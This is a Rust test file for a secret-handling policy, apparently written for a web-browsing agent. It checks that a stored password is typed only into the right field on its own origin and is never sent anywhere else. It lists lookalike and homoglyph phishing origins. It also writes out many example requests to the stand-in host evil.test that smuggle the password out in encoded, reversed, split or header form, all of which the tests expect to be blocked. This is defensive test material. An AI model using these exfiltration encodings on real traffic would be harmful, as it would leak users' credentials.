//! Where a secret may be typed, and where it may go: each check refuses by itself, and says which one it is.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;
#[path = "wire/mod.rs"]
mod wire;

use common::*;
use legwork_policy::{
    Facts, TargetFacts, Verdict,
    secrets::{FieldFacts, SecretKind, SecretRule},
    wire::{BoundSecret, Mode, Ruling, StopReason, WireFacts, WireRules, classify, decode, rule},
};
use legwork_types::{
    Code, Deed, Details, FieldPurpose, Intent, Outgoing,
    contract::{ActionId, FieldValue, FormFill},
};

const BANK: &str = "https://bank.test";

fn secret() -> FieldValue {
    FieldValue::Secret { secret: "bank".into() }
}

fn rules(kind: SecretKind) -> Vec<SecretRule> {
    vec![SecretRule { name: "bank".into(), origins: vec![BANK.into()], kind }]
}

fn password() -> FieldFacts {
    FieldFacts {
        purpose: FieldPurpose::Confidential,
        shows_dots: true,
        frame: format!("{BANK}/login").as_str().into(),
        sent_to: vec![format!("{BANK}/session").as_str().into()],
    }
}

fn page(address: &str, field: FieldFacts, kind: SecretKind) -> Facts {
    let target = TargetFacts { field, ..target(1, "textbox", Safe) };
    Facts { address: address.into(), secrets: rules(kind), ..facts(vec![target]) }
}

/// Which check refuses; none if it is typed.
fn refused_by(facts: &Facts, intent: Intent) -> Option<String> {
    match unasked(intent, facts) {
        Verdict::Go(_) => None,
        Verdict::Ask(problem) => panic!("nobody is asked about this: {problem}"),
        Verdict::Stop(problem) => {
            assert_eq!(problem.code, Code::SecretRefused);
            match problem.details.as_deref() {
                Some(Details::Rule { rule }) => Some(rule.clone()),
                other => panic!("no rule is named: {other:?}"),
            }
        }
    }
}

#[test]
fn a_password_goes_into_the_password_field_of_its_own_page() {
    let fits = page("https://bank.test/login?next=/", password(), SecretKind::Hidden);
    let form = Intent::FillForm(vec![FormFill { action_id: ActionId(1), value: secret() }]);
    for intent in [on(1, Deed::Fill(secret())), on(1, Deed::Type { text: secret(), delay_ms: 0 }), form] {
        assert_eq!(refused_by(&fits, intent), None);
    }
    let by_script = FieldFacts { sent_to: vec![], ..password() };
    assert_eq!(refused_by(&page(BANK, by_script, SecretKind::Hidden), on(1, Deed::Fill(secret()))), None);
}

#[test]
fn every_check_refuses_by_itself() {
    let framed = |frame: &str| FieldFacts { frame: frame.into(), ..password() };
    let sent = |to: &str| FieldFacts { sent_to: vec![BANK.into(), to.into()], ..password() };
    let fill = || on(1, Deed::Fill(secret()));
    for address in [
        "https://evil.test/",
        "https://bank.test.evil.test/",
        "https://evil.test/bank.test",
        "https://bank.test@evil.test/",
        "http://bank.test/",
        "https://www.bank.test/",
        "https://bank.test:8443/",
        "https://bаnk.test/",
        "about:blank",
        "data:text/html,bank.test",
        "",
    ] {
        let on_page = page(address, password(), SecretKind::Hidden);
        assert_eq!(refused_by(&on_page, fill()).as_deref(), Some("page-origin"), "{address}");
        let in_frame = page(BANK, framed(address), SecretKind::Hidden);
        assert_eq!(refused_by(&in_frame, fill()).as_deref(), Some("frame-origin"), "{address}");
        let posted = page(BANK, sent(address), SecretKind::Hidden);
        assert_eq!(refused_by(&posted, fill()).as_deref(), Some("form-target"), "{address}");
    }
    let other = on(1, Deed::Fill(FieldValue::Secret { secret: "shop".into() }));
    let fits = page(BANK, password(), SecretKind::Hidden);
    assert_eq!(refused_by(&fits, other).as_deref(), Some("unknown-secret"));
}

#[test]
fn a_field_gets_only_what_it_is_for() {
    use FieldPurpose::{Code, Confidential, Identity, Prose, Search, Unknown};
    use SecretKind::{Hidden, Visible};
    for (purpose, shows_dots, typed) in [
        (Confidential, true, [true, true, false]),
        (Confidential, false, [false, true, false]),
        (Code, false, [false, true, true]),
        (Code, true, [true, true, true]),
        (Identity, false, [false, true, false]),
        (Search, false, [false, false, false]),
        (Search, true, [false, false, false]),
        (Prose, false, [false, false, false]),
        (Unknown, false, [false, false, false]),
        (Unknown, true, [false, false, false]),
    ] {
        for (kind, typed) in [Hidden, Visible, SecretKind::Code].into_iter().zip(typed) {
            let field = FieldFacts { purpose, shows_dots, ..password() };
            let check = refused_by(&page(BANK, field, kind), on(1, Deed::Fill(secret())));
            let expected = (!typed).then_some("field-kind");
            assert_eq!(check.as_deref(), expected, "{kind:?} into {purpose:?}, dots {shows_dots}");
        }
    }
}

#[test]
fn one_wrong_field_refuses_the_whole_form() {
    let good = TargetFacts { field: password(), ..target(1, "textbox", Safe) };
    let search = FieldFacts { purpose: FieldPurpose::Search, ..password() };
    let wrong = TargetFacts { field: search, ..target(2, "searchbox", Safe) };
    let on_page =
        Facts { address: BANK.into(), secrets: rules(SecretKind::Hidden), ..facts(vec![good, wrong]) };
    let fill = |id| FormFill { action_id: ActionId(id), value: secret() };
    assert_eq!(refused_by(&on_page, Intent::FillForm(vec![fill(1)])), None);
    let both = refused_by(&on_page, Intent::FillForm(vec![fill(1), fill(2)]));
    assert_eq!(both.as_deref(), Some("field-kind"));
}

fn ruling(outgoing: &Outgoing, mode: Mode) -> Ruling {
    let typed = [BoundSecret::new("hunter-22x", vec!["https://shop.test".into()])];
    let facts: WireFacts = wire::own_facts(outgoing).knowing(&typed, outgoing);
    let decoded = decode(outgoing);
    rule(&classify(&decoded, &facts), &decoded, mode, &WireRules::default(), &facts)
}

#[test]
fn a_secret_that_was_typed_leaves_for_nowhere_else() {
    use base64::{Engine as _, engine::general_purpose::STANDARD};
    let encoded = STANDARD.encode("{\"p\":\"hunter-22x\"}");
    let with_header = |mut outgoing: Outgoing| {
        outgoing.headers.push(("x-trace".into(), "hunter-22x".into()));
        outgoing
    };
    for outgoing in [
        wire::sent("GET", "https://evil.test/?k=hunter-22x"),
        wire::sent("GET", "https://evil.test/?k=HUNTER-22X"),
        wire::sent("GET", "https://evil.test/?k=%68unter-22x"),
        wire::sent("GET", "https://evil.test/?k=x22-retnuh"),
        wire::sent("GET", "https://evil.test/68756e7465722d323278.gif"),
        wire::sent("GET", &format!("https://evil.test/?k={encoded}")),
        wire::sent("GET", "https://hunter-22x.evil.test/"),
        wire::sent("GET", "https://shop.test.evil.test/?k=hunter-22x"),
        wire::sent("GET", "http://shop.test/?k=hunter-22x"),
        wire::form("https://evil.test/login", "user=a&password=hunter-22x"),
        wire::json("https://evil.test/x", "{\"a\":[\"h\",\"u\",\"n\",\"t\",\"e\",\"r\",\"2\",\"2\",\"x\"]}"),
        with_header(wire::sent("GET", "https://evil.test/")),
    ] {
        for mode in [Mode::ReadOnly, Mode::DryRun, Mode::PlanOnly, Mode::Live] {
            let ruling = ruling(&outgoing, mode);
            assert_eq!(ruling, Ruling::Stop(StopReason::SecretElsewhere), "{outgoing:?} in {mode:?}");
        }
    }
    let login = wire::form("/login", "user=a&password=hunter-22x");
    assert_eq!(ruling(&login, Mode::DryRun), Ruling::Go);
    assert_eq!(ruling(&wire::sent("GET", "https://evil.test/?k=hunter"), Mode::DryRun), Ruling::Go);
}
